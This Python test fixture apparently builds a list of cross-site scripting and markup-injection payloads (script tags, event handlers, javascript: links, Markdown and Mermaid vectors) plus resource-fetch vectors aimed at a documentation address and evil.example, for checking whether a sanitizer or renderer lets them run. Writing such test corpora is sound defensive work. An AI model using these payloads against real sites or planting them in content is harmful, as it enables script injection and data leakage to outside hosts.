"""
Texts that run a script or fetch something wherever they are interpreted as markup.

`hit(n)` reports that payload `n` ran. Nobody listens at 203.0.113.9, an address for documentation.
"""

from __future__ import annotations

FAR = "http://203.0.113.9"
_FORMS = [
    # HTML that runs
    "<script>hit({n})</script>",
    '<img src=x onerror="hit({n})">',
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<body onload=hit({n})>",
    '<iframe srcdoc="<script>parent.hit({n})</script>"></iframe>',
    '<iframe src="javascript:parent.hit({n})"></iframe>',
    "<details open ontoggle=hit({n})>x</details>",
    '<input autofocus onfocus="hit({n})">',
    '<video><source onerror="hit({n})"></video>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit({n})>",
    '<a href="javascript:hit({n})">open me</a>',
    '<a href="&#106;avascript:hit({n})">open me</a>',
    '<form action="javascript:hit({n})"><button>send</button></form>',
    "<object data=\"javascript:hit({n})\"></object>",
    '<embed src="data:text/html,<script>parent.hit({n})</script>">',
    "<noscript><p title=\"</noscript><img src=x onerror=hit({n})>\">",
    "<template><img src=x onerror=hit({n})></template>",
    "&lt;img src=x onerror=hit({n})&gt;",
    '"><script>hit({n})</script>',
    "'-hit({n})-'",
    "</textarea><script>hit({n})</script>",
    "</script><script>hit({n})</script>",
    "<!--><img src=x onerror=hit({n})>-->",
    "<scr\u0000ipt>hit({n})</scr\u0000ipt>",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "${{hit({n})}}",
    # Markdown that runs
    "[open me](javascript:hit({n}))",
    "[open me](JaVaScRiPt&colon;hit({n}))",
    "[open me](data:text/html,<script>parent.hit({n})</script>)",
    "<javascript:hit({n})>",
    "[x]: javascript:hit({n})\n\n[x]",
    '![x](x"onerror="hit({n}))',
    "```html\n<script>hit({n})</script>\n```",
    "```mermaid\ngraph TD; a[\"<img src=x onerror=hit({n})>\"]; click a \"javascript:hit({n})\"\n```",
    "$$\\href{{javascript:hit({n})}}{{x}}$$",
    "www.evil.example/{n} and {far}/{n}",
    # Fetches
    "![x]({far}/{n}.png)",
    "![x][far]\n\n[far]: {far}/{n}.png",
    "<img src={far}/{n}.png>",
    '<link rel=stylesheet href="{far}/{n}.css">',
    '<link rel=prefetch href="{far}/{n}">',
    "<style>@import url({far}/{n}.css);</style>",
    '<p style="background:url({far}/{n}.png)">x</p>',
    '<meta http-equiv=refresh content="0;url={far}/{n}">',
    '<base href="{far}/">',
    '<video poster="{far}/{n}.png"></video>',
    '<audio src="{far}/{n}.mp3" autoplay></audio>',
    '<iframe src="{far}/{n}"></iframe>',
    '<svg><image href="{far}/{n}.png"/><use href="{far}/{n}.svg#a"/></svg>',
    "<table background={far}/{n}.png><tr><td>x</table>",
    "<input type=image src={far}/{n}.png>",
    "$$\\includegraphics{{{far}/{n}.png}}$$",
    "\u202ehit({n})\u202c <picture><source srcset={far}/{n}.png><img></picture>",
]  # fmt: skip

PAYLOADS = [form.format(n=number, far=FAR) for number, form in enumerate(_FORMS)]
